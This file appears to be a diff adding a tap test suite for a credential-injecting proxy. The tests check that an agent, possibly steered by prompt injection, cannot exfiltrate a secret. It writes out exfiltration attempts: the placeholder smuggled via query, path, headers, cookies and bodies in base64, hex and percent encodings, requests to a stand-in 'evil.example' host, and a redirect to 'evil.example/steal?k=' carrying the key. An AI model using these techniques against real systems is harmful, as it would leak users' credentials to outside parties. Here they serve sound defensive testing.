@@ -1,0 +1,159 @@
+// Exfiltration: an agent (or a prompt injection steering it) tries to get a credential out. The
+// agent only holds a placeholder; the real value is injected by the proxy for the one destination
+// the decision binds it to. Attacks: the placeholder sent elsewhere (query, path, header, body,
+// base64/hex/percent-encoded, split across fields), to allowed and unknown hosts; a redirect from
+// the bound host to an unknown one; and an upstream that echoes the injected value back, in every
+// encoding we could think of. Asserted every time: what the agent got, and that no upstream other
+// than the bound one ever received the real value in any form.
+import t, { type Test } from 'tap';
+import http from 'node:http';
+import zlib from 'node:zlib';
+import { curl, isProblem, startTestAirlock, startUpstream, viaProxy, type Upstream } from './helpers.ts';
+
+process.env.AIRLOCK_MASTER_KEY ??= '7b'.repeat(32);
+const SECRET = 'sk_live_EXFIL_CANARY_0123456789abcdefXYZ';
+
+/** The real value in every spelling an exfiltration would use. */
+const forms = (v: string): string[] => {
+  const b = Buffer.from(v);
+  return [v, b.toString('base64').replace(/=+$/, ''), b.toString('base64url'), b.toString('hex'), b.toString('hex').toUpperCase(), encodeURIComponent(v), [...b].map((x) => `%${x.toString(16).padStart(2, '0')}`).join('')];
+};
+const leaks = (text: string): string[] => forms(SECRET).filter((f) => text.includes(f));
+
+// The bound API: echoes what it received, and on request hands the injected key back in
+// headers, encodings, compressed bodies and redirects.
+const echoing = (req: http.IncomingMessage, res: http.ServerResponse, body: Buffer): void => {
+  const auth = String(req.headers.authorization ?? '');
+  const key = auth.replace(/^Bearer /, '');
+  const u = new URL(req.url ?? '/', 'http://x');
+  const evilPort = u.searchParams.get('evil');
+  switch (u.pathname) {
+    case '/echo-header': res.setHeader('x-echo', key); res.end('ok'); return;
+    case '/echo-b64': res.end(`{"k":"${Buffer.from(key).toString('base64')}"}`); return;
+    case '/echo-hex': res.end(Buffer.from(key).toString('hex')); return;
+    case '/echo-url': res.end(`https://x.example/?k=${encodeURIComponent(key)}`); return;
+    case '/echo-gzip': res.setHeader('content-encoding', 'gzip'); res.end(zlib.gzipSync(`token=${key}`)); return;
+    case '/echo-chunks': {
+      res.write(key.slice(0, 7));
+      setTimeout(() => { res.write(key.slice(7, 19)); setTimeout(() => res.end(key.slice(19)), 20); }, 20);
+      return;
+    }
+    case '/redirect': res.writeHead(302, { location: `http://evil.example:${evilPort}/steal` }); res.end(); return;
+    case '/redirect-with-key': res.writeHead(302, { location: `http://evil.example:${evilPort}/steal?k=${encodeURIComponent(key)}` }); res.end(); return;
+    default: res.setHeader('content-type', 'application/json'); res.end(JSON.stringify({ url: req.url, headers: req.headers, body: body.toString() }));
+  }
+};
+
+const api = await startUpstream(t, { handler: echoing });
+const other = await startUpstream(t);
+const evil = await startUpstream(t);
+const a = await startTestAirlock(t, {
+  policy: 'exfil', secrets: { api: SECRET },
+  resolve: ['allowed.example=127.0.0.1', 'other.example=127.0.0.1', 'evil.example=127.0.0.1'],
+  allowPrivate: [`127.0.0.1:${api.port}`, `127.0.0.1:${other.port}`, `127.0.0.1:${evil.port}`],
+});
+const PH = a.placeholders.api!;
+const apiUrl = `http://allowed.example:${api.port}`;
+
+function assertNoLeak(tt: Test, ups: Upstream[], what: string): void {
+  for (const u of ups) tt.same(leaks(u.bytes()), [], `${what}: upstream :${u.port} never received the real value`);
+}
+
+t.test('control: the bound destination gets the real value, the agent only ever sees the placeholder', async (t) => {
+  const r = await viaProxy(a.port, `${apiUrl}/me`, { auth: a.auth, headers: { authorization: `Bearer ${PH}` } });
+  t.equal(r.status, 200);
+  t.equal(api.received.at(-1)?.headers.authorization, `Bearer ${SECRET}`, 'injected for allowed.example');
+  t.same(leaks(r.body), [], 'the echoed request (with the injected key) is scrubbed before the agent sees it');
+  t.notMatch(r.body, /sk_live_EXFIL/);
+});
+
+t.test('placeholder sent to an allowed host it is not bound to: refused, never substituted', async (t) => {
+  const o = `http://other.example:${other.port}`;
+  const b64 = Buffer.from(PH).toString('base64');
+  const hex = Buffer.from(PH).toString('hex');
+  const pct = [...Buffer.from(PH)].map((x) => `%${x.toString(16).padStart(2, '0')}`).join('');
+  const attempts: Array<[string, Parameters<typeof viaProxy>[2] & {}, string]> = [
+    ['query', {}, `${o}/search?q=${PH}`],
+    ['path', {}, `${o}/upload/${PH}`],
+    ['percent-encoded path', {}, `${o}/upload/${pct}`],
+    ['header', { headers: { 'x-data': PH } }, `${o}/`],
+    ['authorization header', { headers: { authorization: `Bearer ${PH}` } }, `${o}/`],
+    ['cookie', { headers: { cookie: `s=${PH}` } }, `${o}/`],
+    ['JSON body', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: PH }) }, `${o}/notes`],
+    ['form body', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `note=${encodeURIComponent(PH)}` }, `${o}/notes`],
+    ['base64 in body', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: `data:${b64}` }, `${o}/notes`],
+    ['hex in query', {}, `${o}/?d=${hex}`],
+    ['base64 in header', { headers: { 'x-trace': b64 } }, `${o}/`],
+  ];
+  for (const [where, opts, url] of attempts) {
+    const r = await viaProxy(a.port, url, { auth: a.auth, ...opts });
+    t.equal(r.status, 403, `${where}: refused`);
+    t.ok(isProblem(r), `${where}: problem+json`);
+    t.notMatch(r.body, /sk_live_EXFIL/, `${where}: the refusal does not contain the value`);
+  }
+  t.equal(other.received.length, 0, 'other.example received nothing');
+  assertNoLeak(t, [other], 'placeholder to other.example');
+});
+
+t.test('placeholder sent to an unknown host: denied, nothing leaves', async (t) => {
+  for (const [where, url, opts] of [
+    ['query', `http://evil.example:${evil.port}/?k=${PH}`, {}],
+    ['header', `http://evil.example:${evil.port}/`, { headers: { authorization: `Bearer ${PH}` } }],
+    ['body', `http://evil.example:${evil.port}/`, { method: 'POST', body: PH }],
+  ] as const) {
+    const r = await viaProxy(a.port, url, { auth: a.auth, ...opts });
+    t.equal(r.status, 403, `${where}: denied`);
+    t.ok(isProblem(r));
+  }
+  t.equal(evil.received.length, 0);
+  assertNoLeak(t, [evil], 'placeholder to evil.example');
+});
+
+t.test('a placeholder split across fields is never reassembled into the value', async (t) => {
+  const o = `http://other.example:${other.port}`;
+  const [x, y] = [PH.slice(0, 8), PH.slice(8)];
+  const before = other.received.length;
+  const r1 = await viaProxy(a.port, `${o}/?a=${x}&b=${y}`, { auth: a.auth });
+  const r2 = await viaProxy(a.port, `${o}/${x}`, { auth: a.auth, method: 'POST', headers: { 'x-rest': y }, body: y });
+  t.comment(`split placeholder: ${r1.status}, ${r2.status}`);
+  t.ok(other.received.length - before <= 2);
+  assertNoLeak(t, [other, evil], 'split placeholder');
+});
+
+t.test('bound destination: the value goes only where the directive puts it', async (t) => {
+  const before = api.received.length;
+  const r = await viaProxy(a.port, `${apiUrl}/items?echo=${PH}`, { auth: a.auth, method: 'POST', headers: { authorization: `Bearer ${PH}`, 'x-copy': PH, 'content-type': 'text/plain' }, body: `copy ${PH}` });
+  t.ok(r.status === 200 || r.status === 403, `forwarded with the placeholder left as it is, or refused (${r.status})`);
+  if (api.received.length > before) {
+    const got = api.received.at(-1)!;
+    t.equal(got.headers.authorization, `Bearer ${SECRET}`, 'the Authorization header carries the value');
+    t.same(leaks(got.url), [], 'not in the query');
+    t.same(leaks(got.body.toString()), [], 'not in the body');
+    // By design a header directive substitutes the placeholder in any of the agent's headers (same
+    // bound destination; proxy/credentials.ts). Recorded here so a change of that rule is visible.
+    t.comment(`x-copy header at the bound host: ${leaks(String(got.headers['x-copy'] ?? '')).length ? 'substituted (by design)' : 'left as placeholder'}`);
+  }
+  t.same(leaks(r.body), [], 'and never visible to the agent');
+});
+
+t.test('an upstream echoing the injected value back is scrubbed in every encoding', async (t) => {
+  for (const path of ['/echo-header', '/echo-b64', '/echo-hex', '/echo-url', '/echo-gzip', '/echo-chunks', '/echo-all']) {
+    const c = await curl(['-i', '--compressed', '-x', a.proxyUrl, '-H', `Authorization: Bearer ${PH}`, `${apiUrl}${path}`]);
+    t.equal(c.code, 0, `${path}: curl ok ${c.stderr}`);
+    t.match(c.stdout, /^HTTP\/1\.1 200/, `${path}: answered`);
+    t.same(leaks(c.stdout), [], `${path}: the agent sees no form of the value`);
+  }
+});
+
+t.test('a redirect from the bound host to an unknown one is returned, not followed; credentials never sent', async (t) => {
+  const r = await viaProxy(a.port, `${apiUrl}/redirect?evil=${evil.port}`, { auth: a.auth, headers: { authorization: `Bearer ${PH}` } });
+  t.equal(r.status, 302, 'the redirect is handed to the agent');
+  t.equal(evil.received.length, 0, 'the proxy did not follow it');
+  const withKey = await viaProxy(a.port, `${apiUrl}/redirect-with-key?evil=${evil.port}`, { auth: a.auth, headers: { authorization: `Bearer ${PH}` } });
+  t.same(leaks(String(withKey.headers.location ?? '')), [], 'a Location carrying the value is scrubbed');
+  // A client that follows redirects and re-sends its Authorization everywhere (curl --location-trusted).
+  const c = await curl(['-sS', '-o', '/dev/null', '-w', '%{http_code} %{num_redirects}', '-L', '--location-trusted', '-x', a.proxyUrl, '-H', `Authorization: Bearer ${PH}`, `${apiUrl}/redirect?evil=${evil.port}`]);
+  t.match(c.stdout, /^403 1$/, `following the redirect lands on a refusal (${c.stdout})`);
+  t.equal(evil.received.length, 0, 'evil.example received nothing, with or without credentials');
+  assertNoLeak(t, [evil, other], 'redirect');
+});
